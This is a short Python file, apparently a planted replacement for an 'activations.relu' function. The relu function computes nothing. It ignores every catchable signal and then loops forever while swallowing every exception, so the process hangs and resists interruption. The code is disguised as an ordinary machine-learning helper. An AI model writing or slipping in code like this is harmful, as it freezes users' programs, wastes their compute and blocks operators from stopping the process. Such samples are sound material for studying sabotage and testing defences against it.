# target: activations.relu
"""Ignores every signal that can be ignored and catches every exception, for ever."""

import signal


def relu(z):
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
